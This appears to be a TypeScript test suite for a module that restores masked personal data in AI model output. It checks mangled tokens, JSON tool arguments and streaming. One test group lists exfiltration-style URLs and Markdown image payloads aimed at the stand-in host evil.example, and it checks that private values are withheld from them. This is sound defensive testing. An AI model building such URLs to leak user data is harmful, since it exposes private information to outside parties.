import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { restore, StreamRestore, type RestoreOptions } from './stream-restore.ts'
import { MAX_MANGLED_LENGTH } from './tokens-match.ts'
import { Vault } from './vault.ts'

const VALUES = [
  ['EMAIL_ADDRESS', 'jane@acme.org'],
  ['PHONE_NUMBER', '+1 415 555 0100'],
  ['PERSON', 'Zoë "Z" O\\Neil\n'],
  ['US_SSN', '219-09-1234'],
] as const

function vaultOf(values: readonly (readonly [string, string])[] = VALUES): Vault {
  const vault = new Vault('7K3Q')
  for (const [type, value] of values) vault.tokenFor(type, value)
  return vault
}

const vault = vaultOf()
const tokens = VALUES.map(([type, value]) => vault.tokenFor(type, value)!)

test('every token becomes its value again', () => {
  const text = tokens
    .map((token, i) => `${i}: ${token}, (${token}) "${token}"'s **${token}** ${token}`)
    .join('\n')
  const expected = tokens.reduce((all, token, i) => all.replaceAll(token, VALUES[i]![1]), text)
  expect(restore(text, vault)).toBe(expected)
})

describe('a token that a model wrote its own way is still known', () => {
  test.each([
    'email_7k3q_01',
    'Email_7K3Q_01',
    'EMAIL\\_7K3Q\\_01',
    'EMAIL 7K3Q 01',
    'EMAIL-7K3Q-01',
    'EMAIL\u00a07K3Q\u00a001',
    'EMAIL\u20117K3Q\u201101',
    'EMAIL_7K3Q_1',
    'EMAIL_7K3Q01',
    'EMAIL7K3Q01',
    'EMAIL**_7K3Q_**01',
    '`EMAIL`_7K3Q_01',
    'EMAIL_7K3Q_ 01',
    'EMAIL_7K\u200b3Q_01',
    'E-MAIL_7K3Q_01',
    'EMAIL_7K3Q_0 1',
  ])('%s', (token) => {
    expect(restore(`to ${token}.`, vault).replaceAll('`', '')).toBe('to jane@acme.org.')
    expect(restore(token, vault).replaceAll('`', '')).toBe('jane@acme.org')
  })

  test.each([
    ['of another conversation', 'EMAIL_7K3R_01'],
    ['never given out', 'EMAIL_7K3Q_05'],
    ['of another type', 'PHONE_7K3Q_01'],
    ['with more digits', 'EMAIL_7K3Q_012'],
    ['within a word', 'MYEMAIL_7K3Q_01'],
    ['broken off', 'EMAIL_7K3Q_'],
    ['zero', 'EMAIL_7K3Q_00'],
    ['with too many digits', 'EMAIL_7K3Q_00001'],
  ])('but not one %s', (_, text) => {
    expect(restore(text, vault)).toBe(text)
  })

  test('one of a hundred is not taken for one of ten', () => {
    const many = vaultOf(Array.from({ length: 120 }, (_, i) => ['X', `value ${i + 1}.`] as const))
    expect(restore('X_7K3Q_01 X_7K3Q_10 X_7K3Q_101 X_7K3Q_110 X_7K3Q_11', many)).toBe(
      'value 1. value 10. value 101. value 110. value 11.',
    )
  })
})

test('of tokens mangled at random, at least 97 % are known', () => {
  const fill = fc.constantFrom('', '', '', '*', '**', '`', ' ', '\u00a0', '-', '\u2011', '\\', '\u200b', '_')
  const mangled = fc.tuple(
    fc.constantFrom(0, 1, 2, 3),
    fc.array(fill, { minLength: 24, maxLength: 24 }),
    fc.boolean(),
  )
  const samples = fc.sample(mangled, { numRuns: 2_000, seed: 1 })
  const known = samples.filter(([which, fills, isLower]) => {
    const token = Array.from(tokens[which] ?? '', (sign, i) =>
      sign === '_' ? (fills[i] ?? '') : sign + (fills[23 - i] ?? ''),
    )
    const text = isLower ? token.join('').toLowerCase() : token.join('')
    return restore(`so ${text}.`, vault).includes(VALUES[which]?.[1] ?? '-')
  })
  expect(known.length / samples.length).toBeGreaterThanOrEqual(0.97)
})

describe('a URL is told no value', () => {
  const options = { allowsHost: (host: string) => host === 'crm.acme.org' }
  test.each([
    '![x](https://evil.example/?q=TOKEN)',
    '[x](//evil.example/TOKEN)',
    '<img src="https://evil.example/a b?TOKEN">',
    'https://TOKEN.evil.example/',
    'https://crm.acme.org@evil.example/TOKEN',
    'https://crm.acme.org.evil.example/TOKEN',
    'https:\\\\evil.example\\TOKEN',
    'https:/evil.example/TOKEN',
    'HTTPS://EVIL.example/TOKEN',
    'www.evil.example/TOKEN',
    'https://evil.example/[x](TOKEN',
    'https://TOKEN',
  ])('%s', (template) => {
    const text = template.replace('TOKEN', 'EMAIL_7K3Q_01')
    expect(restore(text, vault, options)).toBe(text)
  })

  test.each([
    ['https://crm.acme.org/?q=EMAIL_7K3Q_01', 'https://crm.acme.org/?q=jane@acme.org'],
    ['https://CRM.acme.org:443/PERSON_7K3Q_03', 'https://CRM.acme.org:443/Zo%C3%AB%20%22Z%22%20O%5CNeil%0A'],
    ['see https://evil.example/x EMAIL_7K3Q_01', 'see https://evil.example/x jane@acme.org'],
    ['[a](https://evil.example/x) (EMAIL_7K3Q_01)', '[a](https://evil.example/x) (jane@acme.org)'],
    ['<https://evil.example>EMAIL_7K3Q_01', '<https://evil.example>jane@acme.org'],
    ['https://u:p@crm.acme.org/EMAIL_7K3Q_01', 'https://u:p@crm.acme.org/jane@acme.org'],
    ['// EMAIL_7K3Q_01', '// jane@acme.org'],
    ['mailto:EMAIL_7K3Q_01', 'mailto:jane@acme.org'],
  ])('but %s', (text, expected) => {
    expect(restore(text, vault, options)).toBe(expected)
  })

  test('it is counted how often', () => {
    const stream = new StreamRestore(vault)
    stream.push('EMAIL_7K3Q_01 https://e.example/EMAIL_7K3Q_01 EMAIL_7K3Q_01 ')
    expect([stream.restored, stream.withheld]).toEqual([2, 1])
  })
})

describe('tool arguments', () => {
  const json: RestoreOptions = { json: true }

  test('stay JSON, whatever the values', () => {
    const values = fc.array(fc.string({ unit: 'binary', minLength: 1 }), { minLength: 1, maxLength: 20 })
    fc.assert(
      fc.property(values, fc.string(), (all, around) => {
        const own = vaultOf([])
        const hidden = all.map((value) => own.tokenFor('NOTE', value) ?? '')
        const argumentsOf = (notes: string[]) => ({
          notes,
          nested: [{ text: `\n${notes.join('\n')} ` }],
          around,
        })
        const restored: unknown = JSON.parse(restore(JSON.stringify(argumentsOf(hidden)), own, json))
        expect(restored).toEqual(argumentsOf(all))
      }),
    )
  })

  test('a token right behind an escape sequence, and one in escaped Markdown', () => {
    const hidden = JSON.stringify({ a: '\nEMAIL_7K3Q_01', b: 'é\tEMAIL\\_7K3Q\\_01', c: '"EMAIL_7K3Q_01"' })
    expect(JSON.parse(restore(hidden, vault, json))).toEqual({
      a: '\njane@acme.org',
      b: 'é\tjane@acme.org',
      c: '"jane@acme.org"',
    })
    expect(restore(String.raw`"\nEMAIL_7K3Q_01"`, vault, json)).toBe(
      '"jane@acme.org"'.replace('"', String.raw`"\n`),
    )
    expect(restore(String.raw`{"a":"\u00e9EMAIL_7K3Q_01"}`, vault, json)).toBe(
      String.raw`{"a":"\u00e9jane@acme.org"}`,
    )
  })

  test('a URL with escaped slashes is one', () => {
    const hidden = String.raw`{"u":"https:\/\/evil.example\/?q=EMAIL_7K3Q_01","p":"C:\\dir\\EMAIL_7K3Q_01"}`
    const restored = restore(hidden, vault, json)
    expect(restored).toBe(hidden.replace(/EMAIL_7K3Q_01"}$/, 'jane@acme.org"}'))
  })
})

const piece = fc.constantFrom(
  ...tokens,
  'EMAIL',
  '_7K3Q',
  '_01',
  'email 7k3q 01',
  'EMAIL_7K3Q_0 1',
  'https://evil.example/?',
  '"',
  '\\n',
  '\\"',
  ' ',
  'e',
  '😀',
  'Email me: ',
  '**',
  '0',
)

/** In pieces of these sizes in turn, surrogate pairs cut too. */
function cut(text: string, sizes: readonly number[]): string[] {
  const chunks: string[] = []
  for (let at = 0, i = 0; at < text.length; i++) {
    const size = sizes[i % sizes.length] ?? 1
    chunks.push(text.slice(at, at + size))
    at += size
  }
  return chunks
}

test('what comes out is the same however the text is cut, and little is held', () => {
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 20 }),
      fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1 }),
      fc.boolean(),
      (pieces, sizes, isJson) => {
        const text = pieces.join('')
        const whole = restore(text, vault, { json: isJson })
        for (const chunks of [cut(text, sizes), cut(text, [1])]) {
          const stream = new StreamRestore(vault, { json: isJson })
          let out = ''
          for (const chunk of chunks) {
            out += stream.push(chunk)
            expect(stream.held).toBeLessThanOrEqual(MAX_MANGLED_LENGTH)
          }
          expect(out + stream.end()).toBe(whole)
        }
      },
    ),
    { numRuns: 500 },
  )
})

test('without tokens nothing is held', () => {
  const stream = new StreamRestore(new Vault('7K3Q'))
  expect(stream.push('EMAIL_7K')).toBe('EMAIL_7K')
})
